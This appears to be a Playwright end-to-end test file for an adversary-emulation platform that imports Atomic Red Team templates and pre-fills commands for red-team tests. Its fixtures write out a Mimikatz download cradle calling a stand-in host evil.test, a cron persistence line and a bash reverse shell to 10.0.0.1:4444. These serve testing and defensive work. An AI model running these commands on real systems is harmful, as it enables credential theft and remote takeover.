import { expect, test } from "@playwright/test";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { signInAndWait, watchProblems } from "./helpers";
import { adminPassword } from "../playwright.config";

const fixture = path.resolve(__dirname, "../../server/tests/fixtures/attack-mini.json");

const POWERSHELL = `attack_technique: T1059.001
display_name: PowerShell
atomic_tests:
- name: Mimikatz download cradle
  auto_generated_guid: 6f1c1f4e-8a1e-4c55-9b0e-2f3a4b5c6d70
  description: Downloads Mimikatz and dumps credentials.
  supported_platforms: [windows]
  input_arguments:
    mimurl:
      description: Mimikatz URL
      type: url
      default: https://example.test/Invoke-Mimikatz.ps1
  executor:
    name: powershell
    elevation_required: true
    command: IEX (New-Object Net.WebClient).DownloadString('#{mimurl}'); Invoke-Mimikatz
`;

const CRON = `attack_technique: T1053
display_name: Scheduled Task/Job
atomic_tests:
- name: Cron persistence
  auto_generated_guid: 6f1c1f4e-8a1e-4c55-9b0e-2f3a4b5c6d71
  description: Adds a cron job.
  supported_platforms: [linux]
  executor:
    name: sh
    command: echo '* * * * * id' | crontab -
`;

/** A checkout of Atomic Red Team: two atomics, and files the import leaves alone. */
function atomicsFolder(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "aegis-atomics-"));
  const checkout = path.join(dir, "atomic-red-team-master");
  const root = path.join(checkout, "atomics");
  fs.mkdirSync(path.join(root, "T1059.001", "src"), { recursive: true });
  fs.mkdirSync(path.join(root, "T1053"), { recursive: true });
  fs.writeFileSync(path.join(checkout, "README.md"), "# Atomic Red Team\n");
  fs.writeFileSync(path.join(root, "T1059.001", "T1059.001.yaml"), POWERSHELL);
  fs.writeFileSync(path.join(root, "T1059.001", "src", "payload.ps1"), "Write-Host hi\n");
  fs.writeFileSync(path.join(root, "T1053", "T1053.yaml"), CRON);
  return checkout;
}

/** The same checkout zipped like GitHub's archive (with Python's zipfile). */
function atomicsZip(checkout: string): string {
  const zip = path.join(path.dirname(checkout), "atomic-red-team.zip");
  execFileSync("python3", ["-m", "zipfile", "-c", zip, checkout]);
  return zip;
}

test.describe.configure({ mode: "serial" });

test("an admin imports Atomic Red Team, a red tech starts a test from a template and finds the command pre-filled", async ({
  browser,
  request,
}) => {
  const login = await request.post("/api/v1/auth/login", { data: { username: "admin", password: adminPassword } });
  const headers = { Authorization: `Bearer ${(await login.json()).access_token}` };
  expect(
    (
      await request.post("/api/v1/system/import-attack-bundle", {
        headers,
        multipart: { file: { name: "attack-mini.json", mimeType: "application/json", buffer: fs.readFileSync(fixture) } },
      })
    ).status(),
  ).toBe(200);
  const created = await request.post("/api/v1/users", {
    headers,
    data: { username: "catalog_red", password: "catalog-password-1", role: "red_tech", display_name: "Catalog Red" },
  });
  expect([201, 409]).toContain(created.status());

  // The admin uploads the archive in the System panel and watches the import.
  const adminContext = await browser.newContext();
  const admin = await adminContext.newPage();
  const adminProblems = watchProblems(admin);
  await signInAndWait(admin, "admin", adminPassword);
  await admin.goto("/admin/system", { waitUntil: "networkidle" });
  const checkout = atomicsFolder();
  await admin.locator("#atomics-file").setInputFiles(atomicsZip(checkout));
  await admin.locator("#atomics-upload").click();
  await expect(admin.locator("#job-progress")).toHaveAttribute("data-status", "succeeded", { timeout: 30_000 });
  await expect(admin.locator("#job-outcome")).toContainText("2 added");
  await expect(admin.locator('#atomics-history tr[data-status="succeeded"]').first()).toContainText("upload:atomic-red-team.zip");

  // The same atomics as a folder picked in the browser: only they are sent, nothing changes.
  await admin.locator("#atomics-folder").setInputFiles(checkout);
  await admin.locator("#atomics-folder-upload").click();
  await expect(admin.locator('#atomics-history tr[data-status="succeeded"]').first()).toContainText(
    "upload:atomic-red-team-master/ (folder)",
    { timeout: 30_000 },
  );
  await expect(admin.locator("#job-outcome")).toContainText("0 added, 0 updated, 2 unchanged, 0 files skipped");

  // A red tech finds it for T1059.001 and creates a test from it.
  const redContext = await browser.newContext();
  const red = await redContext.newPage();
  const redProblems = watchProblems(red);
  await signInAndWait(red, "catalog_red", "catalog-password-1");
  await red.getByRole("link", { name: "Test catalog" }).click();
  await red.waitForLoadState("networkidle");
  await red.locator("#catalog-technique").fill("T1059.001");
  await red.locator("#catalog-filter").click();
  await expect(red).toHaveURL(/technique=T1059.001/);
  await expect(red.locator("#catalog-table tbody tr")).toHaveCount(1);
  await red.locator('#catalog-table [data-template="Mimikatz download cradle"] a').click();
  await expect(red.locator("#template-name")).toHaveText("Mimikatz download cradle");
  await expect(red.locator("#template-command")).toContainText("#{mimurl}");
  await red.waitForLoadState("networkidle");
  await red.locator("#argument-mimurl").fill("https://evil.test/m.ps1");
  await red.locator("#create-from-template-submit").click();
  await expect(red).toHaveURL(/\/tests\/[0-9a-f-]{36}$/);
  await expect(red.locator("#test-title")).toHaveText("Mimikatz download cradle");
  await red.locator("#tab-red").click();
  await expect(red.locator("#field-command_executed")).toHaveValue(
    "IEX (New-Object Net.WebClient).DownloadString('https://evil.test/m.ps1'); Invoke-Mimikatz",
  );
  await expect(red.locator("#red-procedure")).toContainText("# executor: powershell (elevation required)");

  // The technique page lists the template too.
  await red.goto("/techniques/T1059.001", { waitUntil: "networkidle" });
  await expect(red.locator("#technique-templates")).toContainText("Mimikatz download cradle");

  expect(adminProblems).toEqual([]);
  expect(redProblems).toEqual([]);
});

test("an admin manages the catalog: stats, a custom template, edits and deactivation", async ({ page }) => {
  const problems = watchProblems(page);
  await signInAndWait(page, "admin", adminPassword);
  await page.goto("/admin/system", { waitUntil: "networkidle" });
  await expect(page.locator('#template-stats [data-stat="total"]')).toContainText("2 (2 active)");
  await expect(page.locator('#template-stats [data-stat="sources"]')).toContainText("atomic red team 2");

  await page.locator("#catalog-admin-new").click();
  await page.waitForLoadState("networkidle");
  await page.locator("#template-technique").fill("T1059.004");
  await page.locator("#template-name").fill("Reverse shell with bash");
  await page.locator("#template-platforms").fill("linux");
  await page.locator("#template-executor").fill("bash");
  await page.locator("#template-command").fill("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
  await page.locator("#template-remediation").fill("Alert on outbound shells\nBlock egress on 4444");
  await page.locator("#create-template").click();
  await expect(page.locator("#template-name")).toHaveText("Reverse shell with bash");
  await expect(page.locator("#template-command")).toContainText("/dev/tcp/10.0.0.1/4444");

  // Edit a local field, then deactivate: gone from the catalog for teams, back when reactivated.
  await page.locator("#edit-severity").selectOption("critical");
  await page.locator("#save-template").click();
  await expect(page.locator("#template-admin")).toContainText("Saved.");
  await expect(page.locator("main")).toContainText("Critical", { ignoreCase: true });
  await page.locator("#toggle-template").click();
  await expect(page.locator("#toggle-template")).toHaveText("Reactivate");
  await page.goto("/catalog?search=reverse", { waitUntil: "networkidle" });
  await expect(page.locator("#catalog-empty")).toBeVisible();
  await page.goto("/catalog?search=reverse&include_inactive=true", { waitUntil: "networkidle" });
  await expect(page.locator("#catalog-table tbody tr")).toHaveCount(1);
  await expect(page.locator("#catalog-table")).toContainText("inactive");
  await page.locator('#catalog-table [data-template="Reverse shell with bash"] a').click();
  await page.waitForLoadState("networkidle");
  await page.locator("#toggle-template").click();
  await expect(page.locator("#toggle-template")).toHaveText("Deactivate");
  expect(problems).toEqual([]);
});
